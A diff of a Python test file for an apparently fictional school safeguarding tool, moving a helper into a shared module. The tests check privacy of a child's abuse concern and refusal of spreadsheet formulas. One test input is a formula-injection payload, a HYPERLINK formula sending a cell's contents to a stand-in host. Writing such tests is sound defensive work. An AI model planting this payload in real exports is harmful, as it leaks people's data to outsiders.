@@ -6,7 +6,7 @@ class teacher of another class; 张强 her entrusted guardian; 杨杨 (#44) her 
 
 from __future__ import annotations
 
-from tests.support.demo import run_demo
+from tests.support.demo import after, run_demo
 
 CONCERN = "孩子说外公张强喝酒后打她，手臂有淤青"
 FORMULA = '=HYPERLINK("http://x.example/?c="&E4,"点我") 13800001111 外祖母'
@@ -18,11 +18,6 @@ def _demo(monkeypatch, tmp_path, sample_roster, *lines: str) -> str:
                     "--all")
 
 
-def _after(out: str, typed: str) -> str:
-    """What the demo printed after the person typed ``typed`` (up to the next prompt)."""
-    return out.split(f"> {typed}\n", 1)[1].split("\n> ", 1)[0]
-
-
 def test_the_volunteer_reads_that_a_talk_happened_and_the_card_refuses_a_formula(monkeypatch, tmp_path,
                                                                                   sample_roster):
     out = _demo(monkeypatch, tmp_path, sample_roster,
@@ -30,10 +25,10 @@ def test_the_volunteer_reads_that_a_talk_happened_and_the_card_refuses_a_formula
                 ":as 沈亮", "/talks 杨秀云",
                 ":as 王老师", "/card 杨秀云", "3", FORMULA)
     assert "[→ 王校长（校领导）]\n王老师在2026年12月4日与杨秀云" in out  # the safeguarding contact hears at once
-    talks = _after(out, "/talks 杨秀云")
+    talks = after(out, "/talks 杨秀云")
     assert "每月谈心（王老师）：内容仅限学校负责人查看" in talks
     assert "淤青" not in talks and "张强" not in talks and "较差" not in talks
-    refused = _after(out, FORMULA)
+    refused = after(out, FORMULA)
     assert "的开头像电子表格公式；请去掉开头的 =、+、- 或 @" in refused and "已保存" not in refused
     assert "杨秀云的新委托监护人：" in refused
 
@@ -44,9 +39,9 @@ def test_another_class_teacher_reports_and_reads_the_family_by_relation(monkeypa
                 "报告 杨秀云", "1", "1", "操场上摔倒，膝盖流血", "1",
                 ":wait 31m",
                 ":as #44", "我这就给学校打电话")  # 杨杨, her father (a namesake is a guardian)
-    preview = _after(out, "看看")
+    preview = after(out, "看看")
     assert "第1步通知：委托监护人" in preview and "张强" not in preview
-    assert "1. 委托监护人 2. 返回" in _after(out.split("> 看看\n", 1)[1], "2")  # whom to leave out: by relation too
+    assert "1. 委托监护人 2. 返回" in after(out.split("> 看看\n", 1)[1], "2")  # whom to leave out: by relation too
     missed = out.split("[→ 袁老师（班主任）]\n未能按时联系到：", 1)[1].split("\n\n", 1)[0]
     assert missed.startswith("孩子的委托监护人（第1步）") and "已请王老师打电话联系。" in missed
     assert "张强" not in missed and "138 0013 6956" not in missed
